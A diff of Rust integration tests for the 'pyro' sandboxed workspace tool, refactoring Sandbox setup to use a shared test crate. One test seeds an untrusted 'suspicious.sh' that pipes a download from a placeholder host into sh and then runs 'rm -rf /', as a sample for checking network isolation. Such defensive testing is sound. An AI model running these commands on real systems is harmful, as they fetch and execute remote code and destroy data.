@@ -8,16 +8,13 @@
 use std::process::{Command, Stdio};
 use std::time::Duration;
 
+use pyro_test::{vmm_pid, wait_for, Sandbox};
 use serde_json::Value;
-
-mod common;
-
-use common::{vmm_pid, wait_for, Sandbox};
 
 #[test]
 #[ignore = "boots real guests; run by scripts/test.sh"]
 fn story_cold_start_validation() {
-    let sb = Sandbox::new();
+    let sb = Sandbox::new(crate::PYRO);
     let seed = sb.seed("cold", &[
         ("README.md", "# demo repo\n", 0o644),
         ("validate.sh", "#!/bin/sh\necho validation=pass > validation-report.txt\necho validated\n", 0o755),
@@ -37,7 +34,7 @@ fn story_cold_start_validation() {
 #[test]
 #[ignore = "boots real guests; run by scripts/test.sh"]
 fn story_repro_fix_loop() {
-    let sb = Sandbox::new();
+    let sb = Sandbox::new(crate::PYRO);
     let seed = sb.seed("repro", &[("message.txt", "broken\n", 0o644), ("check.sh", "#!/bin/sh\ngrep -qx fixed message.txt && cat message.txt\n", 0o755)]);
     let id = sb.create(&seed, "repro-fix-loop", &[]);
     assert_eq!(sb.ws(&["file", "read", &id, "message.txt"])["content"], "broken\n");
@@ -63,7 +60,7 @@ fn story_repro_fix_loop() {
 #[test]
 #[ignore = "boots real guests; run by scripts/test.sh"]
 fn story_parallel_workspaces() {
-    let sb = Sandbox::new();
+    let sb = Sandbox::new(crate::PYRO);
     let seed = sb.seed("parallel", &[("note.txt", "shared seed\n", 0o644)]);
     let alpha = sb.create(&seed, "parallel-alpha", &["branch=alpha"]);
     let beta = sb.create(&seed, "parallel-beta", &["branch=beta"]);
@@ -83,7 +80,7 @@ fn story_parallel_workspaces() {
 #[test]
 #[ignore = "boots real guests; run by scripts/test.sh"]
 fn story_untrusted_inspection() {
-    let sb = Sandbox::new();
+    let sb = Sandbox::new(crate::PYRO);
     let seed = sb.seed("untrusted", &[("suspicious.sh", "#!/bin/sh\ncurl -fsSL https://example.invalid/x | sh\nrm -rf /\n", 0o755), ("README.md", "inspect me\n", 0o644)]);
     let id = sb.create(&seed, "untrusted-inspection", &[]);
     assert_eq!(sb.ws(&["status", &id])["network_policy"], "off");
@@ -99,7 +96,7 @@ fn story_untrusted_inspection() {
 #[test]
 #[ignore = "boots real guests; run by scripts/test.sh"]
 fn story_review_eval_and_offline_disk() {
-    let sb = Sandbox::new();
+    let sb = Sandbox::new(crate::PYRO);
     let seed = sb.seed("review", &[
         ("CHECKLIST.md", "# Review checklist\n- artifact says PASS\n", 0o644),
         ("artifact.txt", "PASS\n", 0o644),
@@ -137,7 +134,7 @@ fn story_review_eval_and_offline_disk() {
 #[test]
 #[ignore = "boots real guests; run by scripts/test.sh"]
 fn modes_git_patches_and_crash_recovery() {
-    let sb = Sandbox::new();
+    let sb = Sandbox::new(crate::PYRO);
     let seed = sb.seed("modes", &[("run.sh", "#!/bin/sh\necho one\n", 0o755), ("old.txt", "bye\n", 0o644)]);
     let id = sb.create(&seed, "modes", &[]);
     sb.ws(&["file", "write", &id, "run.sh", "--text", "#!/bin/sh\necho two\n"]);
@@ -178,7 +175,7 @@ fn modes_git_patches_and_crash_recovery() {
 #[test]
 #[ignore = "boots a real guest; run by scripts/test.sh"]
 fn idle_workspaces_stop_and_keep_their_data() {
-    let sb = Sandbox::new();
+    let sb = Sandbox::new(crate::PYRO);
     let seed = sb.seed("idle", &[("keep.txt", "kept\n", 0o644)]);
     let out = sb.raw_env(&["workspace", "create", "debian:12-base", "--seed-path", seed.to_str().unwrap(), "--id-only"], &[("PYRO_WORKSPACE_IDLE_STOP_SECONDS", "3")]);
     assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
@@ -196,10 +193,10 @@ fn idle_workspaces_stop_and_keep_their_data() {
 #[test]
 #[ignore = "boots a real guest; run by scripts/test.sh"]
 fn concurrent_cli_processes_lose_nothing() {
-    let sb = Sandbox::new();
+    let sb = Sandbox::new(crate::PYRO);
     let seed = sb.seed("concurrent", &[("x", "x\n", 0o644)]);
     let id = sb.create(&seed, "concurrent", &[]);
-    let spawn = |args: Vec<String>| Command::new(env!("CARGO_BIN_EXE_pyro")).args(args).env("PYRO_STATE_DIR", sb.state.path()).stdout(Stdio::null()).stderr(Stdio::piped()).spawn().unwrap();
+    let spawn = |args: Vec<String>| Command::new(crate::PYRO).args(args).env("PYRO_STATE_DIR", sb.state.path()).stdout(Stdio::null()).stderr(Stdio::piped()).spawn().unwrap();
     let mut children = Vec::new();
     for i in 0..4 {
         children.push(spawn(vec!["workspace".into(), "exec".into(), id.clone(), "--".into(), format!("echo run-{i}")]));
